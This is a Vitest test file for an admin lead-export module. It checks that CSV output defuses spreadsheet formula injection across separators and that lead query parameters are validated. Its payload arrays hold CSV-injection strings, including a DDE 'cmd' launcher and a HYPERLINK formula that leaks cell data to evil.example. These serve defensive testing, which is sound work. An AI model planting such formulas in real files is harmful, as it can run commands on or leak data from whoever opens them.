import { describe, expect, it } from 'vitest'
import { CSV_COLUMNS, LEAD_API_PARAMS, LEAD_INBOX_PARAMS, leadFilterOf, parseLeadQuery, toCsv, type publicLead } from './lead-export.server'

type Item = ReturnType<typeof publicLead>

const lead = (overrides: Partial<Item>): Item => ({
  id: 1,
  kind: 'form',
  email: 'ada@example.com',
  nameSurname: 'Ada Lovelace',
  phone: '0212 555 00 00',
  company: 'Analytical Engines',
  message: 'Hello',
  language: 'en',
  pageUrl: 'https://site.test/en/contact',
  createdAt: '2026-01-02T03:04:05.000Z',
  deliveryStatus: 'stored',
  confirmedAt: null,
  consentPurpose: null,
  consentText: null,
  ...overrides,
})

/** RFC 4180 the way a spreadsheet reads it: the cells' text and whether each was quoted. */
function parseCsv(csv: string): Array<Array<{ text: string; quoted: boolean }>> {
  const rows: Array<Array<{ text: string; quoted: boolean }>> = []
  let row: Array<{ text: string; quoted: boolean }> = []
  let index = csv.startsWith('\uFEFF') ? 1 : 0
  while (index < csv.length) {
    let text = ''
    const quoted = csv[index] === '"'
    if (quoted) {
      index++
      while (index < csv.length) {
        if (csv[index] === '"' && csv[index + 1] !== '"') break
        text += csv[index]
        index += csv[index] === '"' ? 2 : 1
      }
      index++
    } else {
      while (index < csv.length && csv[index] !== ',' && csv[index] !== '\r') text += csv[index++]
    }
    row.push({ text, quoted })
    if (csv[index] === ',') index++
    else {
      rows.push(row)
      row = []
      index += 2 // CR LF
    }
  }
  return rows
}

describe('admin CSV export', () => {
  // OWASP's list, and payloads that start like numbers (the old rule let + and - through
  // when a digit, a space or a parenthesis followed).
  const FORMULAS = [
    `-2+3+cmd|' /C calc'!A0`,
    `+1-HYPERLINK("https://evil.example/?leak="&A1,"Click")`,
    '-1+1',
    '+(1)',
    '- 1',
    '+90 (532) 123 45 67',
    '=SUM(A1:A2)',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '-',
    '+',
  ]

  it('prefixes every cell starting with = + - @ tab or CR with a quote and quotes the cell, in every column', () => {
    for (const formula of FORMULAS) {
      for (const column of ['nameSurname', 'phone', 'company', 'message', 'pageUrl', 'email'] as const) {
        const csv = toCsv([lead({ [column]: formula })])
        const [header, row] = parseCsv(csv)
        expect(header!.map((cell) => cell.text)).toEqual([...CSV_COLUMNS])
        const cell = row![CSV_COLUMNS.indexOf(column)]!
        // A CR is also where a reader may start a new row, so what follows it is defused too.
        const expected = formula === '\r=1+1' ? "'\r'=1+1" : `'${formula}`
        expect(cell, `${column}: ${JSON.stringify(formula)}`).toEqual({ text: expected, quoted: true })
      }
    }
  })

  it('leaves ordinary cells as they are and quotes only where RFC 4180 needs it', () => {
    const csv = toCsv([lead({ message: 'Line one\nsays "hi", then -1', company: 'Minus-Plus GmbH', nameSurname: "O'Brien" })])
    const [, row] = parseCsv(csv)
    const byColumn = Object.fromEntries(CSV_COLUMNS.map((column, index) => [column, row![index]]))
    expect(byColumn.message).toEqual({ text: 'Line one\nsays "hi", then -1', quoted: true })
    expect(byColumn.company).toEqual({ text: 'Minus-Plus GmbH', quoted: false })
    expect(byColumn.nameSurname).toEqual({ text: "O'Brien", quoted: false })
    expect(byColumn.phone).toEqual({ text: '0212 555 00 00', quoted: false })
    expect(byColumn.id).toEqual({ text: '1', quoted: false })
    expect(byColumn.createdAt).toEqual({ text: '2026-01-02T03:04:05.000Z', quoted: false })
    expect(csv.startsWith('\uFEFFid,kind,')).toBe(true)
    expect(csv.endsWith('\r\n')).toBe(true)
  })

  // The probe's payloads (security probe 2, finding 6): Excel with `;` as its list separator
  // (Turkish and German defaults) splits the line there and ignores quotes that do not open a field.
  const SPLIT_PAYLOADS = ['ACME;=1+1;', "x;=cmd|' /C calc'!A0;y", 'a,=1+1', 'a; +1', 'a;"=1+1', 'a;\t=1', 'one\n=1+1', 'a;;@SUM(A1)', 'a, "-1"']

  /** Each piece of the emitted text split the way some reader may split it, without the spaces and quotes a reader drops. */
  const pieces = (csv: string) => csv.replace(/^\uFEFF/, '').split(/[;,\r\n]/).map((piece) => piece.replace(/^[ "]+/, ''))

  it('leaves no piece that starts a formula, whichever of ; , or a line break a spreadsheet splits on', () => {
    for (const payload of SPLIT_PAYLOADS) {
      for (const column of ['nameSurname', 'phone', 'company', 'message', 'pageUrl', 'email'] as const) {
        const csv = toCsv([lead({ [column]: payload })])
        for (const piece of pieces(csv)) expect(piece, `${column}: ${JSON.stringify(payload)} gave ${JSON.stringify(piece)}`).not.toMatch(/^[=+\-@\t\r]/)
        // Read back as RFC 4180, the cell is the text with a quote before each defused formula start, and quoted.
        const [, row] = parseCsv(csv)
        const cell = row![CSV_COLUMNS.indexOf(column)]!
        expect(cell.quoted).toBe(true)
        expect(cell.text.replace(/'(?=[=+\-@\t\r])/g, '')).toBe(payload.replace(/'(?=[=+\-@\t\r])/g, ''))
      }
    }
    const [, row] = parseCsv(toCsv([lead({ company: 'ACME;=1+1;', message: "x;=cmd|' /C calc'!A0;y", nameSurname: 'a,=1+1', phone: 'a; +1' })]))
    const byColumn = Object.fromEntries(CSV_COLUMNS.map((column, index) => [column, row![index]!.text]))
    expect(byColumn).toMatchObject({ company: "ACME;'=1+1;", message: "x;'=cmd|' /C calc'!A0;y", nameSurname: "a,'=1+1", phone: "a; '+1" })
  })

  it('quotes every text cell holding a ; and keeps numbers and dates plain', () => {
    const csv = toCsv([lead({ company: 'Acme; Ltd', id: 42 })])
    const [, row] = parseCsv(csv)
    const byColumn = Object.fromEntries(CSV_COLUMNS.map((column, index) => [column, row![index]]))
    expect(byColumn.company).toEqual({ text: 'Acme; Ltd', quoted: true })
    expect(byColumn.id).toEqual({ text: '42', quoted: false })
    expect(byColumn.createdAt).toEqual({ text: '2026-01-02T03:04:05.000Z', quoted: false })
    expect(byColumn.language).toEqual({ text: 'en', quoted: false })
  })
})

describe('the one lead query (parseLeadQuery) for the bearer API and the inbox', () => {
  it('reads only the parameters its caller names, with their defaults', () => {
    expect(parseLeadQuery({ kind: 'form', status: 'hot', page: '0' }, LEAD_API_PARAMS)).toEqual({ ok: true, query: { kind: 'form', limit: 100, format: 'json' } })
    expect(parseLeadQuery({ kind: 'form', limit: '0', cursor: 'x' }, LEAD_INBOX_PARAMS)).toEqual({ ok: true, query: { kind: 'form', page: 1 } })
  })

  it("names each bad parameter once, with its first problem: English for the API's own, translation keys for the inbox's", () => {
    expect(parseLeadQuery({ since: '2026-13-01', cursor: '0', limit: '1001', kind: '' }, LEAD_API_PARAMS)).toEqual({
      ok: false,
      errors: { since: 'must be an ISO 8601 time', cursor: 'must be a nextCursor value', limit: 'must be a whole number from 1 to 1000', kind: 'admin.leads.errors.kind' },
    })
    expect(parseLeadQuery({ from: '2026-02-30', owner: '0', due: 'yes', page: 'abc', status: 'hot' }, LEAD_INBOX_PARAMS)).toEqual({
      ok: false,
      errors: { from: 'admin.leads.errors.date', owner: 'admin.leads.errors.owner', due: 'admin.leads.errors.due', page: 'admin.leads.errors.page', status: 'admin.leads.errors.status' },
    })
    expect(parseLeadQuery({ from: '2026-03-11', to: '2026-03-10' }, LEAD_INBOX_PARAMS)).toEqual({ ok: false, errors: { to: 'admin.leads.errors.range' } })
  })

  it("filters by the API's times as given and by the inbox's whole company days (Istanbul)", () => {
    const api = parseLeadQuery({ since: '2026-03-10T00:00:00Z', confirmed: 'false', cursor: '42' }, LEAD_API_PARAMS)
    expect(api.ok && leadFilterOf(api.query)).toMatchObject({ since: new Date('2026-03-10T00:00:00Z'), confirmed: false })
    const inbox = parseLeadQuery({ from: ' 2026-03-10 ', to: '2026-03-10', owner: 'none', due: '1', status: 'won' }, LEAD_INBOX_PARAMS)
    expect(inbox.ok && leadFilterOf(inbox.query, '2026-03-12')).toEqual({
      kind: undefined,
      since: new Date('2026-03-09T21:00:00.000Z'),
      until: new Date('2026-03-10T20:59:59.999Z'),
      confirmed: undefined,
      status: 'won',
      owner: 'none',
      dueBy: '2026-03-12',
    })
  })
})
